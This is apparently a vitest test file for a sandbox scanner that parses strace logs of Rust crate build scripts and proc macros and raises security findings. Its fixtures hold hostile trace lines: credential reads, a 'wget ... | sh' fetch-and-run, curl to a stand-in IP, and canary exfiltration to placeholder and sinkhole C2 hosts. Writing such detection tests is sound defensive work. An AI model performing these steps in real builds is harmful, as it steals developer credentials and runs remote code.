import { describe, expect, it } from 'vitest';
import { atLeast } from '../scanner/types.js';
import { traceFindings } from './trace-findings.js';

const ctx = {
  canaryValues: ['CANARY-abc'],
  crateName: 'sample',
  buildScript: 'build.rs',
  libPath: 'src/lib.rs',
};
const SCRIPT = '/sandbox/target/debug/build/sample-0123456789abcdef/build-script-build';

/** A trace that starts with cargo (pid 10) spawning rustc (11) and the build script (20). */
function trace(...body: string[]): string[] {
  return [
    '10 execve("/opt/rust/bin/cargo", ["cargo", "build"], 0x7ffd /* 20 vars */) = 0',
    '10 openat(AT_FDCWD</sandbox/project>, "/home/builder/.cargo/credentials.toml", O_RDONLY) = 3</home/builder/.cargo/credentials.toml>',
    '10 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD, stack=0x7f, stack_size=0x9000}, 88) = 11',
    '11 execve("/opt/rust/bin/rustc", ["rustc", "--crate-name", "cratekeeper_detonate_consumer"], 0x7f /* 30 vars */) = 0',
    '11 openat(AT_FDCWD</sandbox/project>, "/opt/rust/lib/librustc_driver.so", O_RDONLY|O_CLOEXEC) = 3</opt/rust/lib/librustc_driver.so>',
    '11 openat(AT_FDCWD</sandbox/project>, "/proc/self/maps", O_RDONLY|O_CLOEXEC) = 3</proc/11/maps>',
    '11 openat(AT_FDCWD</sandbox/project>, "src/main.rs", O_RDONLY|O_CLOEXEC) = 3</sandbox/project/src/main.rs>',
    '11 openat(AT_FDCWD</sandbox/project>, "/sandbox/target/debug/deps/x.o", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 4</sandbox/target/debug/deps/x.o>',
    '11 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD}, 88) = 12',
    '12 execve("/usr/bin/cc", ["cc", "-m64", "x.o"], 0x7f /* 30 vars */) = 0',
    '10 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD}, 88) = 20',
    `20 execve("${SCRIPT}", ["${SCRIPT}"], 0x7f /* 40 vars */) = 0`,
    '20 chdir("/sandbox/crate") = 0',
    ...body,
  ];
}

describe('trace findings', () => {
  it('reports nothing above info for a compile: toolchain, /proc/self, target writes, cc, cargo reading its credentials', () => {
    const findings = traceFindings(
      trace(
        '20 openat(AT_FDCWD</sandbox/crate>, "/usr/include/stdio.h", O_RDONLY) = 3</usr/include/stdio.h>',
        '20 openat(AT_FDCWD</sandbox/crate>, "/sandbox/target/debug/build/sample-0123456789abcdef/out/tiny.o", O_WRONLY|O_CREAT, 0644) = 3</sandbox/target/debug/build/sample-0123456789abcdef/out/tiny.o>',
        '20 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 21',
        '21 execve("/usr/bin/make", ["make"], 0x7f /* 1 var */) = 0',
        '21 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 22',
        '22 execve("/usr/bin/sh", ["sh", "-c", "cc -c x.c"], 0x7f /* 1 var */) = 0',
        '20 connect(3<socket:[1]>, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (No such file or directory)',
      ),
      ctx,
    );
    expect(findings.filter((f) => atLeast(f.severity, 'low'))).toEqual([]);
  });

  it('joins split calls, resolves relative paths against the tracked cwd, and names the build script', () => {
    const findings = traceFindings(
      trace(
        '20 chdir("/home/builder") = 0',
        '20 openat(AT_FDCWD, ".aws/credentials", O_RDONLY|O_CLOEXEC <unfinished ...>',
        '11 openat(AT_FDCWD</sandbox/project>, "/opt/rust/lib/x.so", O_RDONLY) = 5</opt/rust/lib/x.so>',
        '20 <... openat resumed>) = 3',
      ),
      ctx,
    );
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'sandbox.canary-read',
        severity: 'critical',
        file: 'build.rs',
        context: 'build-script',
        evidence: expect.stringContaining('[build script of sample] 20 openat(AT_FDCWD, ".aws/credentials"'),
      }),
    ]);
  });

  it('sees a canary read through a symlink by the path the kernel opened', () => {
    const [f] = traceFindings(
      trace('20 openat(AT_FDCWD</sandbox/crate>, "/tmp/k", O_RDONLY) = 3</home/builder/.ssh/id_rsa>'),
      ctx,
    );
    expect(f?.ruleId).toBe('sandbox.canary-read');
  });

  it('attributes programs a build script starts to it, and reports a program it could not find once', () => {
    const findings = traceFindings(
      trace(
        '20 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 30',
        '30 execve("/opt/rust/bin/curl", ["curl", "-s", "http://192.0.2.7/x"], 0x7f /* 1 var */) = -1 ENOENT (No such file or directory)',
        '30 execve("/usr/bin/curl", ["curl", "-s", "http://192.0.2.7/x"], 0x7f /* 1 var */) = -1 ENOENT (No such file or directory)',
      ),
      ctx,
    );
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ ruleId: 'sandbox.exec', severity: 'high', context: 'build-script' });
    expect(findings[0]!.title).toContain('(not found): curl -s http://192.0.2.7/x');
  });

  it('reports writes to the home and the consumer project, attempts on system directories, and home probes', () => {
    const findings = traceFindings(
      trace(
        '20 openat(AT_FDCWD, "/home/builder/.bashrc", O_WRONLY|O_CREAT|O_APPEND, 0644) = 3</home/builder/.bashrc>',
        '20 renameat2(AT_FDCWD, "/tmp/h", AT_FDCWD, "/sandbox/project/.git/hooks/pre-commit", 0) = 0',
        '20 openat(AT_FDCWD, "/usr/local/bin/x", O_WRONLY|O_CREAT, 0755) = -1 EROFS (Read-only file system)',
        '20 openat(AT_FDCWD, "/root/.ssh/id_ed25519", O_RDONLY) = -1 ENOENT (No such file or directory)',
        '20 openat(AT_FDCWD, "/sandbox/project/Cargo.lock", O_RDONLY) = 3</sandbox/project/Cargo.lock>',
        '20 openat(AT_FDCWD, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>',
      ),
      ctx,
    );
    expect(findings.map((f) => [f.ruleId, f.severity])).toEqual([
      ['sandbox.home-write', 'high'],
      ['sandbox.project-write', 'high'],
      ['sandbox.outside-write', 'high'],
      ['sandbox.credential-probe', 'high'],
      ['sandbox.project-read', 'medium'],
      ['sandbox.sensitive-read', 'medium'],
    ]);
  });

  it('decodes DNS names and canary values from sent buffers; the resolver connect itself is not network', () => {
    const query =
      '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05exfil\\x07example\\x07invalid\\x00\\x00\\x01\\x00\\x01';
    const findings = traceFindings(
      trace(
        '20 connect(3<socket:[2]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
        `20 sendmmsg(3<socket:[2]>, [{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="${query}", iov_len=39}], msg_iovlen=1}, msg_len=39}], 2, MSG_NOSIGNAL) = 1`,
        '20 sendto(4<socket:[3]>, "key=CANARY-abc-ssh", 18, 0, {sa_family=AF_INET6, sin6_port=htons(8443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)',
      ),
      ctx,
    );
    expect(findings.map((f) => [f.ruleId, f.title.split(': ').pop()])).toEqual([
      ['sandbox.dns', 'looked up exfil.example.invalid'],
      ['sandbox.canary-exfil', 'sent a canary credential out'],
      ['sandbox.network', 'sent a datagram to 2001:db8::1:8443'],
    ]);
  });

  it('names the host a connect to a sinkhole address was for; other local services stay medium', () => {
    const sinkhole = new Map([['127.53.0.1', 'c2.example.invalid']]);
    const findings = traceFindings(
      trace(
        '20 connect(3<socket:[2]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("127.53.0.1")}, 16) = -1 ECONNREFUSED (Connection refused)',
        '20 sendto(4<socket:[3]>, "hi", 2, 0, {sa_family=AF_INET, sin_port=htons(9999), sin_addr=inet_addr("127.53.0.1")}, 16) = 2',
        '20 connect(5<socket:[4]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("127.53.0.2")}, 16) = -1 ECONNREFUSED (Connection refused)',
      ),
      { ...ctx, sinkhole },
    );
    expect(findings.map((f) => [f.ruleId, f.severity, f.title.split(': ').pop()])).toEqual([
      ['sandbox.network', 'high', 'connect 127.53.0.1:443 (sinkhole for c2.example.invalid)'],
      ['sandbox.network', 'high', 'sent a datagram to 127.53.0.1:9999 (sinkhole for c2.example.invalid)'],
      ['sandbox.network', 'medium', 'connected to a local service 127.53.0.2:443'],
    ]);
  });

  it('attributes a macro expanding in the consumer to the crate lib', () => {
    const [f] = traceFindings(
      trace(
        '11 openat(AT_FDCWD</sandbox/project>, "/home/builder/.aws/credentials", O_RDONLY) = 9</home/builder/.aws/credentials>',
      ),
      ctx,
    );
    expect(f).toMatchObject({ ruleId: 'sandbox.canary-read', context: 'proc-macro', file: 'src/lib.rs' });
    expect(f?.evidence).toContain('[rustc compiling cratekeeper_detonate_consumer (proc-macro expansion)]');
  });

  it('judges a build script shell by what its processes do: a compiler probe is low, a fetch is high', () => {
    const shell = (pid: number, cmd: string) => [
      `20 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = ${pid}`,
      `${pid} execve("/usr/bin/sh", ["sh", "-c", "${cmd}"], 0x7f /* 1 var */) = 0`,
    ];
    const probe = traceFindings(
      trace(
        ...shell(40, 'gcc -print-search-dirs | sed -ne x'),
        '40 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 41',
        '41 execve("/usr/bin/gcc", ["gcc", "-print-search-dirs"], 0x7f /* 1 var */) = 0',
        '40 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 42',
        '42 execve("/usr/bin/sed", ["sed", "-ne", "x"], 0x7f /* 1 var */) = 0',
      ),
      ctx,
    );
    expect(probe.map((f) => [f.ruleId, f.severity])).toEqual([
      ['sandbox.exec', 'low'],
      ['sandbox.exec', 'info'],
    ]);
    const fetch = traceFindings(
      trace(
        ...shell(40, 'true'),
        ...shell(50, 'wget -q -O- http://192.0.2.9/p | sh'),
        '50 clone3({flags=CLONE_VM|CLONE_VFORK}, 88) = 51',
        '51 execve("/usr/bin/wget", ["wget", "-q", "-O-", "http://192.0.2.9/p"], 0x7f /* 1 var */) = 0',
      ),
      ctx,
    );
    expect(fetch.map((f) => [f.ruleId, f.severity, f.title.split(': ')[1]])).toEqual([
      ['sandbox.exec', 'high', 'runs a shell with a command string'],
      ['sandbox.exec', 'high', 'runs wget'],
    ]);
  });
});
